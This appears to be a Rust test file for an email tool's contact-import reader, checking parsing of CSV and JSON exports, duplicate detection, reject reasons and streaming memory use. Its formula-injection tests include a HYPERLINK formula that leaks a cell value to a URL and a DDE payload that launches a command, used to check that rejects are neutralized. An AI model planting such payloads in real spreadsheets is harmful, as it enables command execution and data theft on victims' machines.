//! Reads every file of the export corpus in `tests/fixtures/corpus/` through
//! `drippulse::input::read_source`, and checks the counts and values a
//! correct reader must produce. The counts are contacts to enroll,
//! duplicates within the file, rejects per reason and blank lines.
//! Duplicates are found here by `Contact.key`, and the first occurrence wins.

use std::collections::{BTreeMap, HashSet};
use std::path::PathBuf;

use drippulse::input::{
    read_source, Contact, KeySpec, Location, ReadOptions, Record, Reject, RejectReason,
    RejectsWriter, Source, SourceSummary,
};
use serde_json::Value;

struct Outcome {
    contacts: Vec<(Location, Contact)>,
    rejects: Vec<Reject>,
    blanks: Vec<Location>,
    summary: SourceSummary,
}

impl Outcome {
    /// Splits contacts into first occurrences and later duplicates by key.
    fn dedupe(&self) -> (Vec<&Contact>, Vec<&Contact>) {
        let mut seen = HashSet::new();
        let (mut unique, mut duplicates) = (Vec::new(), Vec::new());
        for (_, contact) in &self.contacts {
            if seen.insert(contact.key.clone()) {
                unique.push(contact);
            } else {
                duplicates.push(contact);
            }
        }
        (unique, duplicates)
    }

    fn reject_counts(&self) -> BTreeMap<&'static str, usize> {
        let mut counts = BTreeMap::new();
        for reject in &self.rejects {
            *counts.entry(reject.reason.code()).or_insert(0) += 1;
        }
        counts
    }

    fn contact(&self, email: &str) -> &Contact {
        self.contacts
            .iter()
            .map(|(_, contact)| contact)
            .find(|contact| contact.email == email)
            .unwrap_or_else(|| panic!("no contact with email {email:?}"))
    }
}

fn fixture(name: &str) -> PathBuf {
    PathBuf::from(env!("CARGO_MANIFEST_DIR"))
        .join("tests/fixtures/corpus")
        .join(name)
}

fn options() -> ReadOptions {
    ReadOptions {
        format: None,
        delimiter: None,
        column_map: Vec::new(),
        key: KeySpec::Email,
    }
}

fn read_with(name: &str, options: &ReadOptions) -> anyhow::Result<Outcome> {
    let mut contacts = Vec::new();
    let mut rejects = Vec::new();
    let mut blanks = Vec::new();
    let summary = read_source(&Source::File(fixture(name)), options, &mut |record| {
        match record {
            Record::Contact(location, contact) => contacts.push((location, contact)),
            Record::Reject(reject) => rejects.push(reject),
            Record::Blank(location) => blanks.push(location),
            Record::Header(_) => {}
        }
        Ok(())
    })?;
    Ok(Outcome {
        contacts,
        rejects,
        blanks,
        summary,
    })
}

fn read(name: &str) -> Outcome {
    read_with(name, &options()).unwrap_or_else(|error| panic!("{name}: {error:#}"))
}

fn read_error(name: &str) -> String {
    match read_with(name, &options()) {
        Ok(_) => panic!("{name}: expected an error"),
        Err(error) => format!("{error:#}"),
    }
}

/// Expected counts for one corpus file.
struct Expected {
    file: &'static str,
    to_enroll: usize,
    duplicates: usize,
    rejects: &'static [(&'static str, usize)],
    blank: usize,
}

const EXPECTED: &[Expected] = &[
    Expected {
        file: "fmt_mailchimp_subscribed.csv",
        to_enroll: 10,
        duplicates: 0,
        rejects: &[],
        blank: 0,
    },
    Expected {
        file: "fmt_hubspot_export.csv",
        to_enroll: 9,
        duplicates: 0,
        rejects: &[("missing_email", 1)],
        blank: 0,
    },
    Expected {
        file: "fmt_hubspot_import_template.csv",
        to_enroll: 5,
        duplicates: 0,
        rejects: &[],
        blank: 0,
    },
    Expected {
        file: "fmt_google_contacts.csv",
        to_enroll: 7,
        duplicates: 0,
        rejects: &[("missing_email", 1)],
        blank: 0,
    },
    Expected {
        file: "fmt_outlook_com.csv",
        to_enroll: 5,
        duplicates: 0,
        rejects: &[("missing_email", 1)],
        blank: 0,
    },
    Expected {
        file: "fmt_excel_csv_utf8_bom.csv",
        to_enroll: 8,
        duplicates: 0,
        rejects: &[],
        blank: 0,
    },
    Expected {
        file: "fmt_google_sheets.csv",
        to_enroll: 8,
        duplicates: 0,
        rejects: &[],
        blank: 0,
    },
    Expected {
        file: "fmt_generic_contacts.json",
        to_enroll: 4,
        duplicates: 1,
        rejects: &[("invalid_email", 1), ("missing_email", 2)],
        blank: 0,
    },
    Expected {
        file: "fmt_mailchimp_api_members.json",
        to_enroll: 3,
        duplicates: 0,
        rejects: &[("not_subscribed", 2)],
        blank: 0,
    },
    Expected {
        file: "bug_bom_quoted_header.csv",
        to_enroll: 5,
        duplicates: 0,
        rejects: &[],
        blank: 0,
    },
    Expected {
        file: "bug_case_whitespace_duplicates.csv",
        to_enroll: 5,
        duplicates: 8,
        rejects: &[("invalid_email", 1)],
        blank: 0,
    },
    Expected {
        file: "bug_invalid_emails.csv",
        to_enroll: 8,
        duplicates: 0,
        rejects: &[("invalid_email", 21), ("missing_email", 1)],
        blank: 0,
    },
    Expected {
        file: "bug_quoted_newlines.csv",
        to_enroll: 6,
        duplicates: 0,
        rejects: &[],
        blank: 0,
    },
    Expected {
        file: "bug_bare_quotes_in_unquoted_field.csv",
        to_enroll: 5,
        duplicates: 0,
        rejects: &[],
        blank: 0,
    },
    Expected {
        file: "bug_single_column_emails.csv",
        to_enroll: 7,
        duplicates: 1,
        rejects: &[],
        blank: 0,
    },
    Expected {
        file: "bug_blank_and_ragged_rows.csv",
        to_enroll: 4,
        duplicates: 0,
        rejects: &[("field_count_mismatch", 1), ("missing_email", 1)],
        blank: 5,
    },
    Expected {
        file: "bug_formula_injection.csv",
        to_enroll: 5,
        duplicates: 0,
        rejects: &[("invalid_email", 1)],
        blank: 0,
    },
    Expected {
        file: "bug_very_long_field.csv",
        to_enroll: 4,
        duplicates: 0,
        rejects: &[("invalid_email", 1)],
        blank: 0,
    },
    Expected {
        file: "bug_json_with_bom.json",
        to_enroll: 5,
        duplicates: 0,
        rejects: &[],
        blank: 0,
    },
    Expected {
        file: "scenario_batch.csv",
        to_enroll: 11,
        duplicates: 1,
        rejects: &[],
        blank: 0,
    },
];

#[test]
fn corpus_counts_match_expected() {
    let mut failures = Vec::new();
    for expected in EXPECTED {
        let outcome = match read_with(expected.file, &options()) {
            Ok(outcome) => outcome,
            Err(error) => {
                failures.push(format!("{}: error {error:#}", expected.file));
                continue;
            }
        };
        let (unique, duplicates) = outcome.dedupe();
        let rejects = outcome.reject_counts();
        let expected_rejects: BTreeMap<&str, usize> = expected.rejects.iter().copied().collect();
        let actual = (
            unique.len(),
            duplicates.len(),
            &rejects,
            outcome.blanks.len(),
        );
        let expected_counts = (
            expected.to_enroll,
            expected.duplicates,
            &expected_rejects,
            expected.blank,
        );
        if actual != expected_counts {
            failures.push(format!(
                "{}: got (enroll, dup, rejects, blank) = {actual:?}, expected {expected_counts:?}; rejects: {:?}",
                expected.file,
                outcome
                    .rejects
                    .iter()
                    .map(|reject| format!("line {}: {}", reject.location.line, reject.message))
                    .collect::<Vec<_>>()
            ));
        }
    }
    assert!(failures.is_empty(), "{}", failures.join("\n"));
}

#[test]
fn bom_is_not_in_header_or_address() {
    for file in ["bug_bom_quoted_header.csv", "fmt_excel_csv_utf8_bom.csv"] {
        let outcome = read(file);
        let first_header = outcome.summary.header.first().cloned().unwrap_or_default();
        assert_eq!(first_header, "Email", "{file}");
        for (_, contact) in &outcome.contacts {
            assert!(
                !contact.email.contains('\u{FEFF}'),
                "{file}: {:?}",
                contact.email
            );
            assert!(!contact.email.contains('"'), "{file}: {:?}", contact.email);
        }
    }
}

#[test]
fn json_bom_is_stripped() {
    let outcome = read("bug_json_with_bom.json");
    let (location, contact) = outcome.contacts.first().expect("a contact");
    assert_eq!(contact.email, "ada@example.com");
    assert_eq!(location.line, 2);
}

#[test]
fn google_contacts_takes_first_of_list() {
    let outcome = read("fmt_google_contacts.csv");
    let ada = outcome.contact("ada@example.com");
    assert_eq!(
        ada.fields.get("first_name"),
        Some(&Value::from("Ada")),
        "{:?}",
        ada.fields
    );
    assert_eq!(
        ada.fields.get("company_name"),
        Some(&Value::from("Example Analytics"))
    );
    assert!(outcome
        .contacts
        .iter()
        .all(|(_, contact)| !contact.email.contains(":::")));
    // Row 4 has only a second address.
    outcome.contact("edsger.demo@example.com");
    let missing = outcome.rejects.first().expect("one reject");
    assert_eq!(missing.reason, RejectReason::MissingEmail);
    assert_eq!(missing.location.line, 5);
}

#[test]
fn outlook_falls_back_to_second_address() {
    let outcome = read("fmt_outlook_com.csv");
    outcome.contact("alan.p@example.com");
    let grace = outcome.contact("grace@example.org");
    assert_eq!(
        grace.fields.get("E-mail 2 Address"),
        Some(&Value::from("grace.home@example.com"))
    );
}

#[test]
fn quoted_newlines_are_kept() {
    let outcome = read("bug_quoted_newlines.csv");
    let ada = outcome.contact("ada@example.com");
    assert_eq!(
        ada.fields.get("notes"),
        Some(&Value::from("Line one\nLine two"))
    );
    let grace = outcome.contact("grace@example.org");
    assert_eq!(
        grace.fields.get("last_name"),
        Some(&Value::from("Sample\nJr."))
    );
    let alan = outcome.contact("alan@example.com");
    assert_eq!(
        alan.fields.get("notes"),
        Some(&Value::from("Address:\r\n1 Example Street\r\nSpringfield"))
    );
    let lines: Vec<u64> = outcome
        .contacts
        .iter()
        .map(|(location, _)| location.line)
        .collect();
    assert_eq!(lines, vec![2, 4, 6, 9, 11, 12]);
}

#[test]
fn formula_values_are_sent_verbatim() {
    let outcome = read("bug_formula_injection.csv");
    let ada = outcome.contact("ada@example.com");
    assert_eq!(
        ada.fields.get("first_name"),
        Some(&Value::from(
            "=HYPERLINK(\"http://example.com/?x=\"&A1,\"Click\")"
        ))
    );
    let grace = outcome.contact("grace@example.org");
    assert_eq!(grace.fields.get("last_name"), Some(&Value::from("-Sample")));
    assert_eq!(
        grace.fields.get("company_name"),
        Some(&Value::from("+1 555 0102 Corp"))
    );
    let alan = outcome.contact("alan@example.com");
    assert_eq!(alan.fields.get("first_name"), Some(&Value::from("@Alan")));
    assert_eq!(alan.fields.get("company_name"), Some(&Value::from("=1+1")));
    let edsger = outcome.contact("edsger@example.org");
    assert_eq!(
        edsger.fields.get("notes"),
        Some(&Value::from("\t=SUM(1,2)"))
    );
    let barbara = outcome.contact("barbara@example.com");
    assert_eq!(
        barbara.fields.get("company_name"),
        Some(&Value::from("'=Already Escaped"))
    );
}

#[test]
fn formula_reject_is_neutralized_in_rejects_file() {
    let outcome = read("bug_formula_injection.csv");
    let dir = tempfile::tempdir().expect("temp dir");
    let path = dir.path().join("rejects.csv");
    let mut writer = RejectsWriter::create(&path).expect("create");
    for reject in &outcome.rejects {
        writer
            .write(reject, &outcome.summary.header)
            .expect("write");
    }
    writer.finish().expect("finish");

    let written = std::fs::read_to_string(&path).expect("read");
    let mut reader = csv::ReaderBuilder::new()
        .has_headers(false)
        .flexible(true)
        .from_reader(written.as_bytes());
    let rows: Vec<Vec<String>> = reader
        .records()
        .map(|row| row.expect("csv row").iter().map(str::to_string).collect())
        .collect();
    assert_eq!(
        rows.first().map(Vec::as_slice),
        Some(
            &[
                "file",
                "line",
                "reason",
                "message",
                "email",
                "first_name",
                "last_name",
                "company",
                "notes"
            ]
            .map(str::to_string)[..]
        )
    );
    let row = rows.get(1).expect("reject row");
    assert_eq!(row.get(1).map(String::as_str), Some("5"));
    assert_eq!(row.get(2).map(String::as_str), Some("invalid_email"));
    assert_eq!(row.get(4).map(String::as_str), Some("'=cmd|' /C calc'!A0"));
    assert_eq!(row.get(5).map(String::as_str), Some("Mallory"));
}

#[test]
fn custom_fields_keep_header_names() {
    let outcome = read("fmt_mailchimp_subscribed.csv");
    let (_, first) = outcome.contacts.first().expect("a contact");
    let keys: Vec<&str> = first.fields.keys().map(String::as_str).collect();
    assert_eq!(keys.first(), Some(&"email"));
    assert!(keys.contains(&"first_name"), "{keys:?}");
    assert!(!keys.contains(&"First Name"), "{keys:?}");
    assert!(first.fields.values().all(|value| value != &Value::from("")));
}

#[test]
fn hubspot_owner_is_not_the_address() {
    let outcome = read("fmt_hubspot_export.csv");
    let first = &outcome.contacts.first().expect("a contact").1;
    assert_eq!(first.email, "ada@example.com");
    assert_eq!(
        first.fields.get("Contact owner"),
        Some(&Value::from("owner.two@example.com"))
    );
    assert_eq!(
        first.fields.get("company_name"),
        Some(&Value::from("Example Analytics"))
    );
}

#[test]
fn json_scalars_keep_their_types() {
    let outcome = read("fmt_generic_contacts.json");
    let grace = outcome.contact("grace@example.org");
    assert_eq!(grace.fields.get("plan"), Some(&Value::from("pro")));
    assert_eq!(grace.fields.get("seats"), Some(&Value::from(5)));
    assert_eq!(grace.fields.get("beta"), Some(&Value::from(true)));
    let ada = outcome.contact("ada@example.com");
    assert_eq!(
        ada.fields.get("company_name"),
        Some(&Value::from("Example Analytics"))
    );
    let wrong_type = outcome
        .rejects
        .iter()
        .find(|reject| reject.reason == RejectReason::InvalidEmail)
        .expect("invalid_email reject");
    assert!(
        wrong_type.message.contains("12345"),
        "{}",
        wrong_type.message
    );
    assert_eq!(wrong_type.location.line, 6);
}

#[test]
fn mailchimp_members_map_merge_fields() {
    let outcome = read("fmt_mailchimp_api_members.json");
    let ada = outcome.contact("ada@example.com");
    assert_eq!(ada.fields.get("first_name"), Some(&Value::from("Ada")));
    assert_eq!(
        ada.fields.get("company_name"),
        Some(&Value::from("Example Analytics"))
    );
    let grace = outcome.contact("grace@example.org");
    assert_eq!(grace.fields.get("company_name"), None);
}

#[test]
fn case_variants_share_one_key() {
    let outcome = read("bug_case_whitespace_duplicates.csv");
    let (unique, _) = outcome.dedupe();
    let keys: Vec<&str> = unique.iter().map(|contact| contact.key.as_str()).collect();
    assert_eq!(
        keys,
        vec![
            "ada@example.com",
            "grace.sample@example.org",
            "alan.placeholder@example.com",
            "alan.placeholder+news@example.com",
            "alanplaceholder@example.com",
        ]
    );
    let invalid = outcome.rejects.first().expect("a reject");
    assert_eq!(invalid.location.line, 15);
    assert!(
        invalid.message.contains("\"ada @example.com\""),
        "{}",
        invalid.message
    );
}

#[test]
fn blank_and_ragged_lines_are_located() {
    let outcome = read("bug_blank_and_ragged_rows.csv");
    let blank: Vec<u64> = outcome
        .blanks
        .iter()
        .map(|location| location.line)
        .collect();
    assert_eq!(blank, vec![3, 4, 7, 11, 12]);
    let rejected: Vec<(u64, RejectReason)> = outcome
        .rejects
        .iter()
        .map(|reject| (reject.location.line, reject.reason))
        .collect();
    assert_eq!(
        rejected,
        vec![
            (5, RejectReason::FieldCountMismatch),
            (10, RejectReason::MissingEmail)
        ]
    );
}

#[test]
fn very_long_field_is_kept_whole() {
    let outcome = read("bug_very_long_field.csv");
    let longest = outcome
        .contacts
        .iter()
        .filter_map(|(_, contact)| contact.fields.get("notes"))
        .filter_map(Value::as_str)
        .map(str::len)
        .max();
    assert!(longest.unwrap_or(0) >= 70_000, "{longest:?}");
}

#[test]
fn summary_has_digest_and_size() {
    let outcome = read("bug_bom_quoted_header.csv");
    assert_eq!(outcome.summary.bytes, 266);
    assert_eq!(outcome.summary.sha256.len(), 64);
    assert!(outcome
        .summary
        .mapping
        .contains(&("Email".to_string(), "email".to_string())));
}

#[test]
fn no_email_column_fails_with_columns() {
    let message = read_error("bug_no_email_column.csv");
    assert!(
        message.contains("bug_no_email_column.csv, line 1"),
        "{message}"
    );
    assert!(
        message.contains("no email column found; columns are: Name, Phone, Company, City"),
        "{message}"
    );
    assert!(message.contains("--map email="), "{message}");
}

#[test]
fn duplicate_email_headers_fail_with_fix() {
    let message = read_error("bug_duplicate_header_names.csv");
    assert!(
        message.contains("bug_duplicate_header_names.csv, line 1"),
        "{message}"
    );
    assert!(
        message.contains("columns 1 (Email) and 4 (Email)"),
        "{message}"
    );
    assert!(message.contains("--map email=1"), "{message}");
}

#[test]
fn duplicate_email_headers_resolved_by_map() {
    let mut options = options();
    options.column_map = vec![(drippulse::input::Field::Email, "1".to_string())];
    let outcome = read_with("bug_duplicate_header_names.csv", &options).expect("read");
    assert_eq!(outcome.contacts.len(), 5);
    assert_eq!(
        outcome.contact("ada@example.com").fields.get("Email"),
        Some(&Value::from("ada.home@example.org"))
    );
}

#[test]
fn runaway_quote_fails_with_line() {
    let message = read_error("bug_runaway_quote.csv");
    assert!(
        message.contains("bug_runaway_quote.csv, line 3"),
        "{message}"
    );
    assert!(
        message.contains("unterminated quoted field starting in column 4"),
        "{message}"
    );
}

#[test]
fn windows_1252_fails_with_offset() {
    let message = read_error("bug_latin1_no_bom.csv");
    assert!(
        message.contains("bug_latin1_no_bom.csv, line 2"),
        "{message}"
    );
    assert!(
        message.contains("invalid UTF-8 at byte offset"),
        "{message}"
    );
    assert!(message.contains("byte 0xE9"), "{message}");
}

#[test]
fn utf16_fails_naming_utf16() {
    let message = read_error("bug_utf16le_tab_unicode_text.csv");
    assert!(message.contains("UTF-16"), "{message}");
    assert!(
        message.contains("bug_utf16le_tab_unicode_text.csv"),
        "{message}"
    );
}

/// Reads `content` from a temporary file with the given extension.
fn read_bytes(content: &[u8], extension: &str) -> anyhow::Result<Outcome> {
    let dir = tempfile::tempdir().expect("temp dir");
    let name = format!("input.{extension}");
    let path = dir.path().join(&name);
    std::fs::write(&path, content).expect("write");
    let mut contacts = Vec::new();
    let mut rejects = Vec::new();
    let mut blanks = Vec::new();
    let summary = read_source(&Source::File(path), &options(), &mut |record| {
        match record {
            Record::Contact(location, contact) => contacts.push((location, contact)),
            Record::Reject(reject) => rejects.push(reject),
            Record::Blank(location) => blanks.push(location),
            Record::Header(_) => {}
        }
        Ok(())
    })?;
    Ok(Outcome {
        contacts,
        rejects,
        blanks,
        summary,
    })
}

#[test]
fn cr_only_line_endings_are_counted() {
    let outcome = read_bytes(
        b"email;name\ra@example.com;A\r\rb@example.com;\"B\rX\"\rc@example.com;C",
        "csv",
    )
    .expect("read");
    let lines: Vec<u64> = outcome
        .contacts
        .iter()
        .map(|(location, _)| location.line)
        .collect();
    assert_eq!(lines, vec![2, 4, 6]);
    let blank: Vec<u64> = outcome
        .blanks
        .iter()
        .map(|location| location.line)
        .collect();
    assert_eq!(blank, vec![3]);
    assert_eq!(
        outcome.contact("b@example.com").fields.get("name"),
        Some(&Value::from("B\rX"))
    );
}

#[test]
fn forced_delimiter_overrides_detection() {
    let dir = tempfile::tempdir().expect("temp dir");
    let path = dir.path().join("pipes.csv");
    std::fs::write(&path, "email|note,x\na@example.com|one,two\n").expect("write");
    let mut options = options();
    options.delimiter = Some(b'|');
    let mut contacts = Vec::new();
    read_source(&Source::File(path), &options, &mut |record| {
        if let Record::Contact(_, contact) = record {
            contacts.push(contact);
        }
        Ok(())
    })
    .expect("read");
    let contact = contacts.first().expect("a contact");
    assert_eq!(contact.fields.get("note,x"), Some(&Value::from("one,two")));
}

#[test]
fn ndjson_items_and_blank_lines() {
    let content = b"{\"email\":\"a@example.com\",\"x\":[1]}\n\n[1]\n{\"email\":\"b@example.com\",\"lead_ref\":7}\r\n";
    let outcome = read_bytes(content, "ndjson").expect("read");
    let blank: Vec<u64> = outcome
        .blanks
        .iter()
        .map(|location| location.line)
        .collect();
    assert_eq!(blank, vec![2]);
    let rejected: Vec<(u64, RejectReason)> = outcome
        .rejects
        .iter()
        .map(|reject| (reject.location.line, reject.reason))
        .collect();
    assert_eq!(
        rejected,
        vec![
            (1, RejectReason::InvalidJson),
            (3, RejectReason::InvalidJson)
        ]
    );
    let b = outcome.contact("b@example.com");
    assert_eq!(b.lead_ref.as_deref(), Some("7"));
    assert_eq!(b.fields.get("lead_ref"), Some(&Value::from(7)));
}

#[test]
fn json_syntax_error_names_position() {
    let error = read_bytes(
        b"[{\"email\":\"a@example.com\"},\n 5,\n {\"email\": \"x\"\n",
        "json",
    )
    .err()
    .expect("syntax error");
    let message = format!("{error:#}");
    assert!(message.contains("input.json, line 4"), "{message}");
    assert!(message.contains("invalid JSON"), "{message}");
}

#[test]
fn json_non_object_item_is_rejected() {
    let outcome = read_bytes(
        b"[\n\"a@example.com\",\n{\"email\":\"b@example.com\"}\n]",
        "json",
    )
    .expect("read");
    let reject = outcome.rejects.first().expect("a reject");
    assert_eq!(reject.reason, RejectReason::InvalidJson);
    assert_eq!(reject.location.line, 2);
    let (location, _) = outcome.contacts.first().expect("a contact");
    assert_eq!(location.line, 3);
}

#[test]
fn json_object_without_members_names_keys() {
    let error = read_bytes(b"{\"list_id\":\"x\",\"total_items\":3}", "json")
        .err()
        .expect("shape error");
    let message = format!("{error:#}");
    assert!(
        message.contains("\"list_id\", \"total_items\""),
        "{message}"
    );
    assert!(message.contains("no \"members\" array"), "{message}");
}

#[test]
fn json_top_level_scalar_is_an_error() {
    let error = read_bytes(b"\"ada@example.com\"", "json")
        .err()
        .expect("shape error");
    let message = format!("{error:#}");
    assert!(message.contains("input.json, line 1"), "{message}");
    assert!(
        message.contains("JSON array of contact objects"),
        "{message}"
    );
}

#[test]
fn key_column_gives_contact_key() {
    let dir = tempfile::tempdir().expect("temp dir");
    let path = dir.path().join("keys.csv");
    std::fs::write(
        &path,
        "email,Signup ID\na@example.com, 42 \nb@example.com,\n",
    )
    .expect("write");
    let mut options = options();
    options.key = KeySpec::Column("signup id".to_string());
    let mut records = Vec::new();
    read_source(&Source::File(path), &options, &mut |record| {
        if !matches!(record, Record::Header(_)) {
            records.push(record);
        }
        Ok(())
    })
    .expect("read");
    match records.first() {
        Some(Record::Contact(_, contact)) => assert_eq!(contact.key, "42"),
        other => panic!("expected a contact, got {other:?}"),
    }
    match records.get(1) {
        Some(Record::Reject(reject)) => assert_eq!(reject.reason, RejectReason::MissingKey),
        other => panic!("expected a reject, got {other:?}"),
    }
}

#[test]
fn sink_error_stops_the_read() {
    let mut seen = 0;
    let result = read_source(
        &Source::File(fixture("scenario_batch.csv")),
        &options(),
        &mut |_| {
            seen += 1;
            anyhow::bail!("stop here")
        },
    );
    assert_eq!(seen, 1);
    let message = result
        .err()
        .map(|error| error.to_string())
        .unwrap_or_default();
    assert_eq!(message, "stop here");
}

#[test]
fn sink_error_stops_json_read() {
    let mut seen = 0;
    let result = read_source(
        &Source::File(fixture("fmt_generic_contacts.json")),
        &options(),
        &mut |_| {
            seen += 1;
            anyhow::bail!("stop here")
        },
    );
    assert_eq!(seen, 1);
    let message = result
        .err()
        .map(|error| error.to_string())
        .unwrap_or_default();
    assert_eq!(message, "stop here");
}

#[test]
fn unknown_extension_suggests_format() {
    let error = read_bytes(b"email\n", "xlsx")
        .err()
        .expect("extension error");
    assert!(format!("{error:#}").contains("CSV UTF-8"), "{error:#}");
}

#[test]
fn empty_file_is_an_error() {
    let error = read_bytes(b"", "csv").err().expect("empty error");
    assert!(
        format!("{error:#}").contains("input.csv, line 1: the file is empty"),
        "{error:#}"
    );
}

/// Returns the peak resident set size of this process in KiB (Linux only).
fn peak_rss_kib() -> Option<u64> {
    let status = std::fs::read_to_string("/proc/self/status").ok()?;
    let line = status.lines().find(|line| line.starts_with("VmHWM:"))?;
    line.split_whitespace().nth(1)?.parse().ok()
}

/// Checks that memory stays flat on a large file. Ignored by default
/// because it writes about 60 MB per format; run with `--ignored`.
#[test]
#[ignore]
fn large_inputs_stream() {
    use std::io::Write;

    let dir = tempfile::tempdir().expect("temp dir");
    let rows = 600_000;
    let csv_path = dir.path().join("large.csv");
    let json_path = dir.path().join("large.json");
    let mut csv_file = std::io::BufWriter::new(std::fs::File::create(&csv_path).expect("create"));
    let mut json_file = std::io::BufWriter::new(std::fs::File::create(&json_path).expect("create"));
    writeln!(csv_file, "email,first_name,last_name,notes").expect("write");
    write!(json_file, "[").expect("write");
    for row in 0..rows {
        writeln!(
            csv_file,
            "user{row}@example.com,First{row},Last{row},some notes about contact number {row}"
        )
        .expect("write");
        let separator = if row == 0 { "" } else { "," };
        writeln!(
            json_file,
            "{separator}{{\"email\":\"user{row}@example.com\",\"first_name\":\"First{row}\",\
             \"notes\":\"some notes about contact number {row}\"}}"
        )
        .expect("write");
    }
    write!(json_file, "]").expect("write");
    csv_file.flush().expect("flush");
    json_file.flush().expect("flush");
    drop((csv_file, json_file));

    for path in [csv_path, json_path] {
        let before = peak_rss_kib().unwrap_or(0);
        let mut count = 0;
        read_source(&Source::File(path.clone()), &options(), &mut |record| {
            if let Record::Contact(..) = record {
                count += 1;
            }
            Ok(())
        })
        .expect("read");
        let growth = peak_rss_kib().unwrap_or(0).saturating_sub(before);
        assert_eq!(count, rows, "{}", path.display());
        assert!(
            growth < 20 * 1024,
            "{}: peak RSS grew by {growth} KiB",
            path.display()
        );
    }
}
